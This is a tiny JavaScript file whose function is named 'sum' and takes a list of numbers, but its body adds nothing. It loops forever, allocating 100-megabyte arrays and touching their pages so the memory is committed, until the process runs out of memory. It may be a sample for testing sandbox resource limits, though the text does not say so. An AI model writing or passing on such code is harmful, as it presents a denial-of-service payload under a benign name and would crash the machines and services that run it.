function sum(numbers) {
  const all = [];
  for (;;) { const v = new Uint8Array(1e8); for (let i = 0; i < 1e8; i += 4096) v[i] = 1; all.push(v); }
}
